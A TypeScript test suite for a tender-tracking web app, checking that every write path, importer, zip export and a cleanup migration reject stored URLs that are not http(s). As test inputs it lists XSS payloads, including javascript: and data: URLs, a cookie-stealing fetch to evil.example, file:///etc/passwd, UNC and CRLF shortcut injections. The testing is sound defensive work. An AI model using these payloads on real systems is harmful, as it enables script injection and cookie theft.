// Stored web addresses are http(s) only (issue 13, point 3): every write path — a staff edit of
// a lead's source URL, a document a staff member adds, each importer — refuses javascript:,
// vbscript:, data:, other schemes and relative addresses (400 on the field, or the import rejects
// or drops it and says so), and accepts http(s). Rows stored before the rule are cleared by
// migration 016, and a tender zip never carries a shortcut to another scheme.
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import JSZip from "jszip";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { WEB_URL_MESSAGE } from "../../common/urls.js";
import { upsertTender } from "../../server/ingest/importers/store.js";
import type { TenderInput } from "../../server/ingest/importers/model.js";
import { run, tenderView } from "../fixtures/import/helpers.js";
import { startTestApp, type TestContext } from "./harness.js";
import { importAndWait } from "./imports-upload.js";
import { makeCompany, makeProject, staff, subscriber, type Session } from "./lead-fixture.js";
import { inDays, insertTender } from "./tender-fixture.js";

const MIGRATION = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../../server/db/migrations/016_safe_urls.sql");

/** Addresses a link must never carry, as an attacker would write them. */
const BAD = [
  "javascript:alert(document.cookie)",
  "JavaScript:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "file:///etc/passwd",
  "ftp://files.example.org/nit.pdf",
  "/api/logout/",
  "//evil.example/x",
  "parivesh.nic.in/doc/1",
  "https://",
  "https://exa mple.org/",
];
const GOOD = ["http://example.org/nit.pdf", "https://etenders.gov.in/eprocure/app?page=FrontEndTenderDetails&id=42#top"];

let t: TestContext;
let staffer: Session;
let reader: Session;
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "security-urls-"));
beforeAll(async () => {
  t = await startTestApp();
  staffer = await staff(t);
  reader = await subscriber(t);
});
afterAll(async () => {
  await t?.close();
  fs.rmSync(tmp, { recursive: true, force: true });
});

const patchLead = (id: number, payload: object) => t.app.inject({ method: "PATCH", url: `/api/work/${id}/`, headers: staffer.headers, payload });
const addDocument = (id: number, payload: object) => t.app.inject({ method: "POST", url: `/api/work/${id}/documents/`, headers: staffer.headers, payload });
const sourceUrl = async (id: number) => (await t.db.query<{ source_url: string | null }>(`SELECT source_url FROM projects WHERE id = $1`, [id])).rows[0].source_url;

describe("a staff edit of a lead's source_url", () => {
  it("refuses every other scheme and relative address with 400 on source_url, storing nothing", async () => {
    const id = await makeProject(t.db);
    await patchLead(id, { source_url: GOOD[0] });
    for (const url of BAD) {
      const res = await patchLead(id, { source_url: url });
      expect(res.statusCode, url).toBe(400);
      expect(res.json(), url).toEqual({ source_url: [WEB_URL_MESSAGE] });
    }
    expect(await sourceUrl(id)).toBe(GOOD[0]);
    const history = await t.db.query(`SELECT changes FROM project_history WHERE project_id = $1`, [id]);
    expect(history.rows).toHaveLength(1);
  });

  it("accepts http and https addresses, and null clears it", async () => {
    const id = await makeProject(t.db);
    for (const url of GOOD) {
      const res = await patchLead(id, { source_url: url });
      expect(res.statusCode, url).toBe(200);
      expect(res.json().project.source_url).toBe(url);
      expect(await sourceUrl(id)).toBe(url);
    }
    expect((await patchLead(id, { source_url: null })).statusCode).toBe(200);
    expect(await sourceUrl(id)).toBeNull();
  });
});

describe("a document staff add to a lead", () => {
  it("refuses every other scheme with 400 on url, storing nothing; http(s) is stored and listed", async () => {
    const id = await makeProject(t.db);
    for (const url of BAD) {
      const res = await addDocument(id, { title: "Notice", body: "Text of the notice.", url });
      expect(res.statusCode, url).toBe(400);
      expect(res.json(), url).toEqual({ url: [WEB_URL_MESSAGE] });
    }
    expect((await t.db.query(`SELECT 1 FROM project_documents WHERE project_id = $1`, [id])).rows).toHaveLength(0);
    for (const url of GOOD) expect((await addDocument(id, { title: "Notice", url })).statusCode, url).toBe(201);
    const list = await t.app.inject({ method: "GET", url: `/api/work/${id}/documents/`, headers: reader.headers });
    expect(list.json().results.map((d: { url: string }) => d.url)).toEqual(GOOD);
  });
});

function file(name: string, content: string): string {
  const p = path.join(tmp, name);
  fs.writeFileSync(p, content);
  return p;
}

describe("imports", () => {
  it("tenders-csv: a row whose source_url or document URL is not http(s) is rejected with the reason; the good row is stored", async () => {
    const csv = file("tenders.csv", [
      "ocid,title,source_url,document_urls",
      "sec:1,Road works at Nagpur,https://mahatenders.gov.in/nit/1,https://mahatenders.gov.in/boq/1.xls",
      "sec:2,Bridge works at Wardha,javascript:alert(1),",
      'sec:3,School repairs at Nashik,,"data:text/html;base64,PHNjcmlwdD4="',
      "sec:4,Hall at Pune,vbscript:msgbox(1),",
    ].join("\r\n"));
    const r = await run(t.db, "tenders-csv", [csv]);
    expect(r.totals).toMatchObject({ read: 4, created: 1, rejected: 3 });
    expect(r.rejects.map((x) => [x.row, x.reason])).toEqual([ // file lines: the header is line 1
      [3, "source_url 'javascript:alert(1)' is not an http(s) address"],
      [4, "document_urls 'data:text/html;base64,PHNjcmlwdD4=' is not an http(s) address"],
      [5, "source_url 'vbscript:msgbox(1)' is not an http(s) address"],
    ]);
    expect((await tenderView(t.db, "sec:1"))!.tender.source_url).toBe("https://mahatenders.gov.in/nit/1");
    for (const ocid of ["sec:2", "sec:3", "sec:4"]) expect(await tenderView(t.db, ocid), ocid).toBeNull();
  });

  it("a staff upload (POST imports/) with a javascript: source_url stores none and its report says why", async () => {
    const content = ["ocid,title,source_url", "up:1,Canal lining at Nashik,javascript:alert(document.domain)", "up:2,Canal desilting at Nashik,https://example.gov.in/n/2"].join("\r\n");
    const run = await importAndWait(t.app, staffer.headers, { kind: "tenders-csv" }, { name: "upload.csv", content });
    expect(run.status).toBe("done");
    expect(run.report.totals).toMatchObject({ created: 1, rejected: 1 });
    expect(run.rejects.map((x) => x.reason)).toEqual(["source_url 'javascript:alert(document.domain)' is not an http(s) address"]);
    expect(await tenderView(t.db, "up:1")).toBeNull();
    expect((await tenderView(t.db, "up:2"))!.tender.source_url).toBe("https://example.gov.in/n/2");
  });

  it("tenders-json: a document whose url is another scheme rejects its tender; a URL with spaces is stored encoded", async () => {
    const json = file("tenders.json", JSON.stringify([
      { ocid: "secj:1", title: "Water supply scheme", documents: [{ file_name: "NIT.pdf", url: "https://example.gov.in/NIT 1.pdf" }] },
      { ocid: "secj:2", title: "Sewer line", documents: [{ file_name: "BOQ.xls", url: "javascript:fetch('//evil.example/'+document.cookie)" }] },
      { ocid: "secj:3", title: "Drainage", source_url: "/relative/notice.html" },
    ]));
    const r = await run(t.db, "tenders-json", [json]);
    expect(r.totals).toMatchObject({ created: 1, rejected: 2 });
    expect(r.rejects.map((x) => x.reason)).toEqual([
      "documents url 'javascript:fetch('//evil.example/'+document.cookie)' is not an http(s) address",
      "source_url '/relative/notice.html' is not an http(s) address",
    ]);
    expect((await tenderView(t.db, "secj:1"))!.documents).toEqual([{ file_name: "NIT.pdf", url: "https://example.gov.in/NIT%201.pdf", mime_type: "application/pdf" }]);
    expect(await tenderView(t.db, "secj:2")).toBeNull();
  });

  it("ocds: a document URL that is not http(s) is dropped with a warning; the tender and the document stay, and no source_url is taken from it", async () => {
    const release = {
      ocid: "ocds-sec-1", id: "ocds-sec-1-01", date: "2025-05-01T10:00:00Z", tag: ["tender"],
      tender: {
        id: "T-1", title: "Flyover at Pune", status: "active",
        documents: [
          { id: "d1", documentType: "tenderNotice", title: "Notice", url: "javascript:alert(1)" },
          { id: "d2", documentType: "biddingDocuments", title: "BOQ", url: "https://example.gov.in/boq.xls" },
        ],
      },
    };
    const r = await run(t.db, "ocds", [file("release.json", JSON.stringify(release))]);
    expect(r.totals).toMatchObject({ created: 1, rejected: 0 });
    expect(r.warnings.map((w) => w.message)).toContain("ocds-sec-1: document url 'javascript:alert(1)' is not an http(s) address: dropped");
    const v = (await tenderView(t.db, "ocds-sec-1"))!;
    expect(v.tender.source_url).toBeNull();
    expect(v.documents.map((d) => [d.file_name, d.url])).toEqual([["Notice", null], ["BOQ", "https://example.gov.in/boq.xls"]]);
  });

  it("the store itself refuses any other scheme from any importer (the last gate)", async () => {
    const base: TenderInput = {
      ocid: "store:1", portal_tender_id: null, reference: null, title: "Gate", description: "", org_name: null, org_name_exact: null, department: null,
      tender_status: "Live", is_corrigendum: false, category: null, tender_type: null, value: null, emd: null, tender_fee: null,
      published_date: null, closing_date: null, opening_date: null, prebid_date: null, status_update_date: null,
      state: null, district: null, city: null, pincode: null, source: null, source_url: "vbscript:msgbox(1)", documents: [], corrigenda: [],
    };
    const stats = { companiesCreated: 0, companiesLinked: 0 };
    await expect(t.db.transaction((tx) => upsertTender(tx, base, null, stats))).rejects.toThrow("source_url 'vbscript:msgbox(1)' is not an http(s) address");
    const withDoc = { ...base, source_url: null, documents: [{ file_name: "x.pdf", url: "data:application/pdf;base64,AAAA", mime_type: "application/pdf" }] };
    await expect(t.db.transaction((tx) => upsertTender(tx, withDoc, null, stats))).rejects.toThrow("document url 'data:application/pdf;base64,AAAA' is not an http(s) address");
    expect((await t.db.query(`SELECT 1 FROM tenders WHERE ocid = 'store:1'`)).rows).toHaveLength(0);
  });
});

describe("tender zip", () => {
  it("writes an internet shortcut only for an http(s) document address", async () => {
    const tid = await insertTender(t.db, { key: "zipurls", title: "Zip URLs", org: "PWD", status: "Live", category: "works", value: 1e6, state: "Maharashtra", city: "Nagpur", closing: inDays(4) });
    for (const [name, url] of [["good", "https://example.gov.in/nit.pdf"], ["script", "javascript:alert(1)"], ["unc", "file://attacker/share/x.exe"], ["lines", "https://x.example/\r\nIconFile=\\\\attacker\\i.ico"]]) {
      await t.db.query(`INSERT INTO tender_documents (tender_id, file_name, url) VALUES ($1, $2, $3)`, [tid, name, url]);
    }
    const res = await t.app.inject({ method: "GET", url: `/api/tender/download_zip/${tid}`, headers: reader.headers });
    expect(res.statusCode).toBe(200);
    const zip = await JSZip.loadAsync(res.rawPayload);
    expect(Object.keys(zip.files).filter((n) => n.startsWith("documents/"))).toEqual(["documents/good.url"]);
  });
});

describe("migration 016", () => {
  it("clears stored addresses with another scheme and keeps http(s) ones (and bare company hosts)", async () => {
    const good = await makeProject(t.db);
    const bad = await makeProject(t.db);
    await t.db.query(`UPDATE projects SET source_url = $2 WHERE id = $1`, [good, "https://example.org/a"]);
    await t.db.query(`UPDATE projects SET source_url = $2 WHERE id = $1`, [bad, "javascript:alert(1)"]);
    const doc = async (url: string) =>
      (await t.db.query<{ id: number }>(`INSERT INTO project_documents (project_id, title, url) VALUES ($1, 'd', $2) RETURNING id`, [good, url])).rows[0].id;
    const docs = { ok: await doc("http://example.org/d.pdf"), data: await doc("data:text/html,<script>alert(1)</script>"), rel: await doc("/x") };
    const tid = await insertTender(t.db, { key: "mig", title: "Migration", org: "PWD", status: "Live", category: "works", value: 1e6, state: "Goa", city: "Panaji", closing: inDays(4) });
    await t.db.query(`UPDATE tenders SET source_url = 'vbscript:msgbox(1)' WHERE id = $1`, [tid]);
    const tdoc = async (url: string) =>
      (await t.db.query<{ id: number }>(`INSERT INTO tender_documents (tender_id, file_name, url) VALUES ($1, 'f', $2) RETURNING id`, [tid, url])).rows[0].id;
    const tdocs = { ok: await tdoc("https://example.gov.in/f"), js: await tdoc("JAVASCRIPT:alert(1)"), tab: await tdoc("https://exa\tmple.org/"), slash: await tdoc("https:///path"), backslash: await tdoc("https://\\evil.example/") };
    const co = async (website: string) => {
      const c = await makeCompany(t.db);
      await t.db.query(`UPDATE companies SET website = $2 WHERE id = $1`, [c.id, website]);
      return c.id;
    };
    const cos = { full: await co("https://www.acme.in"), bare: await co("www.acme.in"), js: await co("javascript:alert(1)"), data: await co("data:,x") };

    await t.db.exec(fs.readFileSync(MIGRATION, "utf8"));

    const one = async (sql: string, id: number) => (await t.db.query<{ v: string | null }>(sql, [id])).rows[0].v;
    expect(await one(`SELECT source_url AS v FROM projects WHERE id = $1`, good)).toBe("https://example.org/a");
    expect(await one(`SELECT source_url AS v FROM projects WHERE id = $1`, bad)).toBeNull();
    expect(await one(`SELECT source_url AS v FROM tenders WHERE id = $1`, tid)).toBeNull();
    const docUrl = (id: number) => one(`SELECT url AS v FROM project_documents WHERE id = $1`, id);
    expect([await docUrl(docs.ok), await docUrl(docs.data), await docUrl(docs.rel)]).toEqual(["http://example.org/d.pdf", null, null]);
    const tdocUrl = (id: number) => one(`SELECT url AS v FROM tender_documents WHERE id = $1`, id);
    expect([await tdocUrl(tdocs.ok), await tdocUrl(tdocs.js), await tdocUrl(tdocs.tab), await tdocUrl(tdocs.slash), await tdocUrl(tdocs.backslash)]).toEqual(["https://example.gov.in/f", null, null, null, null]);
    const site = (id: number) => one(`SELECT website AS v FROM companies WHERE id = $1`, id);
    expect([await site(cos.full), await site(cos.bare), await site(cos.js), await site(cos.data)]).toEqual(["https://www.acme.in", "www.acme.in", null, null]);
  });
});
